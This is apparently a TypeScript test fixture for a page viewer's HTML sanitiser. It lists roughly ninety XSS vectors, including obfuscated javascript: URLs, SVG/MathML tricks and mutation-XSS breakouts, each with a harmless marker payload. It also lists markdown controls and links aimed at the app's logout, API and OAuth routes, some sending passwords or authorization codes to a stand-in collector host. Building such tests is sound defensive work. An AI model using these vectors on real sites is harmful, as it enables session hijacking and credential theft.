/**
 * Script-injection vectors for the page viewer. Each is a small HTML snippet that, if any script in
 * it runs, logs `XSS-FIRED:<id>` to the console, requests `/xss/<id>` and opens an `alert('<id>')`.
 * Every page built from a vector also carries harmless content (`#ok-<id>`) that must still show.
 */

export const FIRED = 'XSS-FIRED:';

export interface XssVector {
  id: number;
  name: string;
  html: string;
  /**
   * True when the raw snippet reliably runs its payload in current Chromium as a top-level document
   * with no sandbox and no policy (given the hover and click the browser tests perform), so it
   * proves the detector and shows what the sanitiser is holding back. Vectors for other engines,
   * older browsers or parsing differentials stay in the list with `live: false`.
   */
  live: boolean;
}

/** The payload for vector `n`: a console line, two requests and a dialog (last, so it is not fatal). */
export function payload(n: number | string): string {
  return `console.log('${FIRED}${n}'),new Image().src='/xss/${n}',fetch('/xss/${n}'),alert('${n}')`;
}

/** The same with no spaces, double quotes or semicolons, for unquoted attributes and SMIL value lists. */
export function compactPayload(n: number | string): string {
  return `console.log('${FIRED}${n}'),fetch('/xss/${n}'),alert('${n}')`;
}

/** The harmless paragraph every page built from vector `n` carries, and the text it renders. */
export function harmless(n: number): string {
  return `<p id="ok-${n}">harmless <b>content</b> ${n}</p>`;
}
export function harmlessText(n: number): string {
  return `harmless content ${n}`;
}

/** A page holding vector `v`: the harmless paragraph first, so an unclosed element cannot swallow it. */
export function vectorPage(v: XssVector): string {
  return `${harmless(v.id)}\n${v.html}\n`;
}

/** Every vector in one page: all harmless paragraphs, then every snippet. */
export function allVectorsPage(vectors: readonly XssVector[] = XSS_VECTORS): string {
  return `${vectors.map((v) => harmless(v.id)).join('\n')}\n${vectors.map((v) => v.html).join('\n')}\n`;
}

const attr = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const dataHtml = (html: string) => `data:text/html,${encodeURIComponent(html)}`;
const dataJs = (js: string) => `data:text/javascript,${encodeURIComponent(js)}`;
/** Every character of `text` as a decimal character reference. */
const entities = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
/** Covers the whole viewport, so the browser tests' hover and click land on it. */
const COVER = 'display:block;position:fixed;inset:0;z-index:9;opacity:0.2';
const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

type Build = (p: string, n: number, c: string) => string;

/** [name, live, build(payload, id, compactPayload)] in a stable order; ids are 1-based positions. */
const BUILDERS: [string, boolean, Build][] = [
  // Script elements
  ['script tag', true, (p) => `<script>${p}</script>`],
  ['uppercase script tag', true, (p) => `<SCRIPT>${p}</SCRIPT>`],
  ['script with data: src', true, (p) => `<script src="${dataJs(p)}"></script>`],
  ['module script', true, (p) => `<script type="module">${p}</script>`],
  ['script inside svg', true, (p) => `<svg><script>${p}</script></svg>`],
  ['svg script with data: href', true, (p) => `<svg><script href="${dataJs(p)}"></script></svg>`],
  ['script split by a nested tag', false, (p) => `<scr<script>x</script>ipt>${p}</scr<script>x</script>ipt>`],
  ['script inside a plain template', false, (p) => `<template><script>${p}</script></template>`],
  [
    'declarative shadow root with script',
    true,
    (p) => `<div><template shadowrootmode="open"><script>${p}</script><slot></slot></template></div>`,
  ],
  [
    'declarative shadow root with onerror',
    true,
    (p) => `<div><template shadowrootmode="open"><img src="x:" onerror="${p}"></template></div>`,
  ],

  // Inline event handlers
  ['img onerror', true, (p) => `<img src="x:" onerror="${p}">`],
  ['mixed-case IMG OnErRoR', true, (p) => `<IMG SRC="x:" OnErRoR="${p}">`],
  ['slash-separated attributes', true, (_p, _n, c) => `<img/src="x:"/onerror=${c}>`],
  ['img onload', true, (p) => `<img src="${GIF}" onload="${p}">`],
  ['svg onload', true, (p) => `<svg onload="${p}"></svg>`],
  ['svg/onload without space', true, (_p, _n, c) => `<svg/onload=${c}>`],
  ['svg image onerror', true, (p) => `<svg><image href="x:" onerror="${p}"></image></svg>`],
  ['body onload merged into the body', true, (p) => `<body onload="${p}">`],
  ['body onpageshow', true, (p) => `<body onpageshow="${p}">`],
  [
    'body onhashchange with a fragment refresh',
    true,
    (p) => `<body onhashchange="${p}"><meta http-equiv="refresh" content="0;url=#changed">`,
  ],
  ['input autofocus onfocus', true, (p) => `<input autofocus onfocus="${p}">`],
  ['textarea autofocus onfocusin', true, (p) => `<textarea autofocus onfocusin="${p}"></textarea>`],
  [
    'contenteditable autofocus onfocus',
    true,
    (p) => `<div contenteditable autofocus onfocus="${p}">edit</div>`,
  ],
  ['onmouseover', true, (p) => `<div style="${COVER}" onmouseover="${p}">over</div>`],
  ['onmouseenter', true, (p) => `<span style="${COVER}" onmouseenter="${p}">enter</span>`],
  ['onpointerenter', true, (p) => `<div style="${COVER}" onpointerenter="${p}">pointer</div>`],
  ['onmousemove', true, (p) => `<div style="${COVER}" onmousemove="${p}">move</div>`],
  ['onclick', true, (p) => `<button style="${COVER}" onclick="${p}">click</button>`],
  ['onpointerdown', true, (p) => `<div style="${COVER}" onpointerdown="${p}">down</div>`],
  [
    'onanimationstart',
    true,
    (p, n) =>
      `<style>@keyframes xss${n}{from{opacity:.5}to{opacity:1}}</style><div style="animation:xss${n} 10ms" onanimationstart="${p}">a</div>`,
  ],
  [
    'onanimationend',
    true,
    (p, n) =>
      `<style>@keyframes xssend${n}{from{opacity:.5}to{opacity:1}}</style><div style="animation:xssend${n} 10ms" onanimationend="${p}">b</div>`,
  ],
  ['details open ontoggle', true, (p) => `<details open ontoggle="${p}"><summary>s</summary>d</details>`],
  [
    'popover onbeforetoggle',
    true,
    (p, n) =>
      `<button popovertarget="pop${n}" style="${COVER}">open</button><div popover id="pop${n}" onbeforetoggle="${p}">pop</div>`,
  ],
  [
    'svg animate onbegin',
    true,
    (p) => `<svg><animate onbegin="${p}" attributeName="x" dur="1s"></animate></svg>`,
  ],
  ['svg set onbegin', true, (p) => `<svg><set onbegin="${p}" attributeName="x" to="1"></set></svg>`],
  [
    'svg animate onend',
    true,
    (p) => `<svg><animate onend="${p}" attributeName="x" dur="10ms"></animate></svg>`,
  ],
  ['video source onerror', true, (p) => `<video><source src="x:" onerror="${p}"></video>`],
  ['audio onerror', true, (p) => `<audio src="x:" onerror="${p}"></audio>`],
  ['video onloadstart', true, (p) => `<video src="x:" onloadstart="${p}"></video>`],
  ['input type=image onerror', true, (p) => `<input type="image" src="x:" onerror="${p}">`],
  ['style onload', true, (p) => `<style onload="${p}">p{}</style>`],
  ['link stylesheet onload', true, (p) => `<link rel="stylesheet" href="data:text/css,p{}" onload="${p}">`],
  ['iframe onload', true, (p) => `<iframe onload="${p}"></iframe>`],
  ['marquee onstart', false, (p) => `<marquee onstart="${p}">m</marquee>`],
  ['frameset onload', false, (p) => `<frameset onload="${p}"></frameset>`],
  ['img onerror fostered out of a table', true, (p) => `<table><img src="x:" onerror="${p}"></table>`],

  // javascript: URLs on links, forms and embedders
  ['a href javascript:', true, (p) => `<a href="javascript:${p}" style="${COVER}">link</a>`],
  ['a href JaVaScRiPt: mixed case', true, (p) => `<a href="JaVaScRiPt:${p}" style="${COVER}">link</a>`],
  ['a href with leading space', true, (p) => `<a href=" javascript:${p}" style="${COVER}">link</a>`],
  [
    'a href entity-encoded javascript:',
    true,
    (p) => `<a href="${entities('javascript:')}${p}" style="${COVER}">link</a>`,
  ],
  ['a href javascript&colon;', true, (p) => `<a href="javascript&colon;${p}" style="${COVER}">link</a>`],
  [
    'a href with a tab in javascript:',
    true,
    (p) => `<a href="java&#x09;script:${p}" style="${COVER}">link</a>`,
  ],
  [
    'a href with a newline in javascript:',
    true,
    (p) => `<a href="java&#x0A;scr&#x0D;ipt:${p}" style="${COVER}">link</a>`,
  ],
  ['a href &Tab; in javascript:', true, (p) => `<a href="javas&Tab;cript:${p}" style="${COVER}">link</a>`],
  [
    'a href javascript: in a new window',
    false,
    (p) => `<a href="javascript:${p}" target="_blank" style="${COVER}">new window</a>`,
  ],
  [
    'form action javascript:',
    true,
    (p) => `<form action="javascript:${p}"><button style="${COVER}">send</button></form>`,
  ],
  [
    'button formaction javascript:',
    true,
    (p) => `<form><button formaction="javascript:${p}" style="${COVER}">send</button></form>`,
  ],
  [
    'input submit formaction javascript:',
    true,
    (p) => `<form><input type="submit" formaction="javascript:${p}" style="${COVER}" value="send"></form>`,
  ],
  ['iframe src javascript:', true, (p) => `<iframe src="javascript:${p}"></iframe>`],
  ['iframe src data:text/html', true, (p) => `<iframe src="${dataHtml(`<script>${p}</script>`)}"></iframe>`],
  ['iframe srcdoc with script', true, (p) => `<iframe srcdoc="${attr(`<script>${p}</script>`)}"></iframe>`],
  ['object data javascript:', false, (p) => `<object data="javascript:${p}"></object>`],
  [
    'object data data:text/html',
    true,
    (p) => `<object data="${dataHtml(`<script>${p}</script>`)}"></object>`,
  ],
  ['embed src javascript:', false, (p) => `<embed src="javascript:${p}">`],
  [
    'embed src data:text/html',
    true,
    (p) => `<embed type="text/html" src="${dataHtml(`<script>${p}</script>`)}">`,
  ],
  [
    'meta refresh to javascript:',
    false,
    (p) => `<meta http-equiv="refresh" content="0;url=javascript:${p}">`,
  ],
  [
    'meta refresh to data:text/html',
    false,
    (p) => `<meta http-equiv="refresh" content="0;url=${dataHtml(`<script>${p}</script>`)}">`,
  ],
  [
    'base href javascript:',
    false,
    (p) => `<base href="javascript:${p}//"><a href="/next" style="${COVER}">based</a>`,
  ],

  // SVG
  [
    'svg a xlink:href javascript:',
    true,
    (p) =>
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink" style="${COVER}" width="100%" height="100%"><a xlink:href="javascript:${p}"><rect width="100%" height="100%"></rect></a></svg>`,
  ],
  [
    'svg animate href to javascript:',
    false,
    (p) =>
      `<svg style="${COVER}" width="100%" height="100%"><a><animate attributeName="href" to="javascript:${p}" begin="0s" fill="freeze"></animate><rect width="100%" height="100%"></rect></a></svg>`,
  ],
  [
    'svg set href to javascript:',
    true,
    (p) =>
      `<svg style="${COVER}" width="100%" height="100%"><a><set attributeName="href" to="javascript:${p}"></set><rect width="100%" height="100%"></rect></a></svg>`,
  ],
  [
    'svg animate href values list hiding javascript:',
    false,
    (_p, _n, c) =>
      `<svg style="${COVER}" width="100%" height="100%"><a><animate attributeName="href" values="x;javascript:${c}" keyTimes="0;0.001" dur="1000s" fill="freeze"></animate><rect width="100%" height="100%"></rect></a></svg>`,
  ],
  [
    'svg use href data: with onload',
    false,
    (p) =>
      `<svg><use href="data:image/svg+xml,${encodeURIComponent(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x:" onerror="${attr(p)}"/></svg>`)}#x"></use></svg>`,
  ],
  [
    'svg foreignObject img onerror',
    true,
    (p) => `<svg><foreignObject><img src="x:" onerror="${p}"></foreignObject></svg>`,
  ],
  ['img breaking out of svg style', true, (p) => `<svg><style><img src="x:" onerror="${p}"></style></svg>`],

  // MathML
  ['math href javascript:', false, (p) => `<math href="javascript:${p}" style="${COVER}"><mi>x</mi></math>`],
  [
    'math maction xlink:href javascript:',
    false,
    (p) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${p}" style="${COVER}"><mtext>click</mtext><mtext>status</mtext></maction></math>`,
  ],
  [
    'math annotation-xml text/html img onerror',
    true,
    (p) =>
      `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src="x:" onerror="${p}"></annotation-xml></semantics></math>`,
  ],
  [
    'img breaking out of math style',
    true,
    (p) => `<math><style><img src="x:" onerror="${p}"></style></math>`,
  ],

  // Parsing differentials (mutation XSS)
  ['empty comment <!-->', true, (p) => `<!--><img src="x:" onerror="${p}">-->`],
  [
    'comment closed inside an attribute',
    true,
    (_p, _n, c) => `<!--<img src="--><img src=x: onerror=${c}//">`,
  ],
  ['CDATA outside foreign content', true, (p) => `<![CDATA[><img src="x:" onerror="${p}">]]>`],
  ['CDATA inside svg', false, (p) => `<svg><![CDATA[><img src="x:" onerror="${p}">]]></svg>`],
  [
    'noscript title breakout',
    true,
    (_p, _n, c) => `<noscript><p title="</noscript><img src=x: onerror=${c}>"></noscript>`,
  ],
  [
    'style in body breakout',
    true,
    (_p, _n, c) => `<style><a title="</style><img src=x: onerror=${c}>"></style>`,
  ],
  [
    'title in body breakout',
    true,
    (_p, _n, c) => `<title><a title="</title><img src=x: onerror=${c}>"></title>`,
  ],
  [
    'textarea breakout',
    true,
    (_p, _n, c) => `<textarea><a title="</textarea><img src=x: onerror=${c}>"></textarea>`,
  ],
  ['xmp breakout', true, (_p, _n, c) => `<xmp><a title="</xmp><img src=x: onerror=${c}>"></xmp>`],
  [
    'noembed breakout',
    true,
    (_p, _n, c) => `<noembed><a title="</noembed><img src=x: onerror=${c}>"></noembed>`,
  ],
  [
    'iframe text breakout',
    true,
    (_p, _n, c) => `<iframe><a title="</iframe><img src=x: onerror=${c}>"></iframe>`,
  ],
  [
    'svg </p> style breakout',
    true,
    (_p, _n, c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  ],
  [
    'nested forms with mglyph style',
    false,
    (_p, _n, c) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x: onerror=${c}>">`,
  ],
  [
    'math mtext table mglyph style comment',
    false,
    (_p, _n, c) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${c}&gt;">`,
  ],
  [
    'svg style comment in title attribute',
    false,
    (_p, _n, c) => `<svg><style><!--</style><img title="--&gt;&lt;/style&gt;&lt;img src=1 onerror=${c}&gt;">`,
  ],
  [
    'select with style breakout',
    true,
    (_p, _n, c) => `<select><style><a title="</style></select><img src=x: onerror=${c}>"></style></select>`,
  ],
];

export const XSS_VECTORS: readonly XssVector[] = BUILDERS.map(([name, live, build], i) => {
  const id = i + 1;
  return { id, name, live, html: build(payload(id), id, compactPayload(id)) };
});

// ── controls and links to the app's own routes, for text rendered in the app (not the sandbox) ──

/**
 * A piece of markdown (HTML inside it included) that, rendered in the app, would give a reader
 * something to submit or a link that acts on the app: a form, a control, a `formaction`, or a URL
 * on the app's origin that is not one of its pages (`/logout`, `/api/…`, `/oauth/…`, …).
 */
export interface ControlVector {
  name: string;
  markdown: string;
}

/** The paths on the app's origin that change something or hand out credentials. */
export const STATE_CHANGING_PATHS = [
  '/logout',
  '/login',
  '/api/',
  '/oauth/',
  '/consent/',
  '/settings',
  '/hooks/',
  '/mcp',
  '/.well-known/',
];

/** Every control vector, its app-origin URLs written against `origin` (e.g. http://127.0.0.1:8787). */
export function controlVectors(origin: string): ControlVector[] {
  const host = new URL(origin).host;
  const authorize =
    '/oauth/authorize?response_type=code&client_id=evil&redirect_uri=https%3A%2F%2Fcollector.example.net%2Fcb';
  const list: [string, string][] = [
    // Forms and controls, as raw HTML in the markdown
    ['form posting to /logout', '<form action="/logout" method="post"><button>Sign out</button></form>'],
    [
      'form posting elsewhere',
      '<form action="https://collector.example.net/"><input name="password" type="password"></form>',
    ],
    ['button with formaction', '<button formaction="/logout" formmethod="post">Continue</button>'],
    ['submit input with formaction', '<input type="submit" formaction="/api/tokens" value="Go">'],
    ['image input', '<input type="image" src="/logout" alt="go">'],
    ['select and option', '<select name="workspace"><option>Acme</option></select>'],
    ['textarea', '<textarea name="note">type here</textarea>'],
    ['check box input', '<input type="checkbox" checked>'],
    ['hidden input', '<input type="hidden" name="decision" value="allow">'],
    [
      'fieldset, legend and label',
      '<fieldset><legend>Sign in</legend><label>Email <input></label></fieldset>',
    ],
    ['datalist and output', '<datalist id="d"><option value="a"></datalist><output>3</output>'],
    ['obsolete isindex and keygen', '<isindex action="/logout"><keygen name="k">'],
    ['button outside any form', '<button type="button">Allow</button>'],
    ['form attribute on an element', '<img src="x" form="f" formaction="/logout">'],
    ['contenteditable region', '<div contenteditable="true">edit me</div>'],
    ['control inside a table cell', '| a |\n|---|\n| <input value="x"> |'],
    ['control inside a list item', '- <button>Delete</button>'],
    ['control inside a blockquote', '> <form action="/logout"><button>x</button></form>'],
    [
      'control inside details',
      '<details open><summary>More</summary><form action="/logout"><button>x</button></form></details>',
    ],
    ['GFM task list', '- [x] done\n- [ ] to do'],
    ['GFM task list, loose', '- [x] done\n\n- [ ] to do\n'],
    // Links and sources on the app's own routes
    ['markdown link to /logout', '[sign out](/logout)'],
    ['markdown link to the JSON API', '[tokens](/api/tokens)'],
    ['markdown link to authorize', `[connect](${authorize})`],
    ['absolute link to authorize', `[connect](${origin}${authorize})`],
    ['protocol-relative link to register', `<a href="//${host}/oauth/register">register</a>`],
    ['link to the consent page', `[consent](${origin}/consent/abc)`],
    ['link to a settings action', '[revoke](/settings/tokens/tok_1/revoke)'],
    ['link to the event hooks', '[hook](/hooks/github/ws_1)'],
    ['link to /mcp', `<${origin}/mcp>`],
    ['GFM autolink literal to the API', `see ${origin}/api/me for details`],
    ['reference-style link', '[x][r]\n\n[r]: /logout'],
    ['percent-encoded path', '[x](/%6fauth/authorize)'],
    ['percent-encoded slash after dot-dot', '[x](/documents/..%2Flogout)'],
    ['dot segments', '[x](/documents/../logout)'],
    ['dot segment at the start', '[x](/./api/me)'],
    ['backslash path', '<a href="\\logout">x</a>'],
    ['upper-case scheme and host', `<a href="HTTP://${host.toUpperCase()}/api/me">x</a>`],
    ['upper-case path', '[x](/API/tokens)'],
    ['path with tab and newline', '<a href="/lo&#9;gout">x</a> <a href="/api&#10;/me">y</a>'],
    ['relative path without a slash', '<a href="../logout">x</a>'],
    ['image from the API', '![x](/api/me)'],
    ['image starting an authorization', `<img src="${authorize}">`],
    ['image through a page path into the API', '<img src="/documents/x/../../api/me">'],
    ['video poster on /logout', '<video poster="/logout"></video>'],
    ['area in an image map', '<map name="m"><area href="/logout" shape="rect" coords="0,0,9,9"></map>'],
    ['ping attribute', '<a href="https://example.org/" ping="/api/tokens">x</a>'],
    ['srcset', '<img src="https://example.org/a.png" srcset="/logout 1x, /api/me 2x">'],
    ['svg link', `<svg><a xlink:href="/logout"><text>x</text></a></svg>`],
    ['math link', '<math><mtext><a href="/logout">x</a></mtext></math>'],
    ['iframe', '<iframe src="/logout"></iframe>'],
    ['object and embed', '<object data="/logout"></object><embed src="/api/me">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=/logout">'],
    ['base element', '<base href="/oauth/"><a href="authorize">x</a>'],
    ['link element', '<link rel="prefetch" href="/logout">'],
    ['style overlay', '<style>a{position:fixed;inset:0}</style><a href="https://example.org/">x</a>'],
    ['inline style overlay', '<a style="position:fixed;inset:0" href="https://example.org/">x</a>'],
    ['target and opener', '<a href="https://example.org/" target="_top">x</a>'],
  ];
  return list.map(([name, markdown]) => ({ name, markdown }));
}

/** Markdown that must still render after the rules above (links to pages, other sites, text). */
export const HARMLESS_MARKDOWN = [
  '# Heading',
  'A [page of the app](/documents/doc_1) and [another site](https://example.org/path).',
  '- [x] shipped',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '```\ncode\n```',
  '![logo](https://example.org/logo.png)',
].join('\n\n');
